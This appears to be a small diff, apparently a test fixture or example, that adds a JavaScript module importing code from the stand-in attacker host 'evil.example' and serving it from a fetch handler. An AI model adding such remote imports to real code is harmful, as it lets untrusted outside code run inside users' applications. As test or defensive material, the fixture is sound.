@@ -1,0 +1,2 @@
+import evil from "https://evil.example/payload.js";
+export default { fetch() { return new Response(String(evil)); } };
